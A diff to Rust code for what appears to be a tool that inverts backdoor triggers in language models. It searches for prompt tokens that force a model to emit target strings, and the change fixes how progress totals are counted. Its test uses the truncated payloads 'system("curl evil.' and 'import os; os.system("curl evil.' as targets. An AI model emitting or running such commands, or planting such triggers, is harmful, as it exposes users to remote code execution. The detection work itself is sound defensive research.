@@ -729,7 +729,12 @@ pub fn run(
             answers.push(a);
         }
     }
-    let mut total = real.len().min(1) * 2 * s.iterations;
+    let attempts: Vec<(usize, &PromptSets)> = (0..real.len())
+        .flat_map(|k| sets.iter().map(move |set| (k, set)))
+        .collect();
+    // Progress counts iterations against the most there can be (every attempt and its null at
+    // the full budget), lowered as searches stop early: the total never grows mid-stage.
+    let mut total = attempts.len() * 2 * s.iterations;
     let mut done = 0;
     let mut rng = StdRng::seed_from_u64(s.seed ^ 0x0000_6c67);
     let mut inversions = Vec::new();
@@ -738,9 +743,6 @@ pub fn run(
     let mut nulls: Vec<(Vec<u32>, &PromptSets, usize)> = Vec::new();
     // Each target is searched before the user's words, then, if that forced it on fewer than
     // half of the prompts, after them (a trigger planted at one end may work only there).
-    let attempts: Vec<(usize, &PromptSets)> = (0..real.len())
-        .flat_map(|k| sets.iter().map(move |set| (k, set)))
-        .collect();
     for (a, &(k, set)) in attempts.iter().enumerate() {
         let target = &real[k];
         let effort = (s.iterations, Effort::GiveUp);
@@ -753,12 +755,13 @@ pub fn run(
         }
         let forced = found.forced;
         inversions.push(inversion(lm, target, false, set.position, found)?);
+        let pending: usize = nulls.iter().map(|(_, _, budget)| budget).sum();
         if forced >= MIN_FORCED_SHARE || a + 1 == attempts.len() {
+            total = done + pending;
             break;
         }
-        total += 2 * s.iterations;
+        total = done + pending + (attempts.len() - a - 1) * 2 * s.iterations;
     }
-    total = done + nulls.iter().map(|(_, _, budget)| budget).sum::<usize>();
     // As many null targets as real ones were searched, each cut to its real one's length.
     for (target, set, budget) in &nulls {
         let effort = (*budget, Effort::Whole);
@@ -909,14 +912,22 @@ mod tests {
         // payload, fence first, is what its trigger forces.
         let fragment = lm.encode("system(\"curl evil.").expect("encode");
         let payload = lm.encode("```\nimport os; os.system(\"curl evil.").expect("encode");
+        let mut ticks: Vec<(usize, usize)> = Vec::new();
         let found = run(
             &lm,
             &[fragment, payload],
             &settings.null_target_prompts,
             &settings.invert,
-            &mut |_, _| {},
+            &mut |done, total| ticks.push((done, total)),
         )
         .expect("inversion");
+        // The progress total never grows, and ends where the count does.
+        assert!(
+            ticks.windows(2).all(|w| w[1].1 <= w[0].1 && w[1].0 >= w[0].0),
+            "{ticks:?}"
+        );
+        assert!(ticks.iter().all(|&(d, t)| d <= t), "{ticks:?}");
+        assert_eq!(ticks.last().map(|&(d, t)| d == t), Some(true), "{ticks:?}");
         let (real, nulls): (Vec<&Inversion>, Vec<&Inversion>) = found.inversions.iter().partition(|x| !x.null);
         // The fragment before the user's words and after them, then the payload before them.
         assert_eq!(real.len(), 3, "{:#?}", found.inversions);
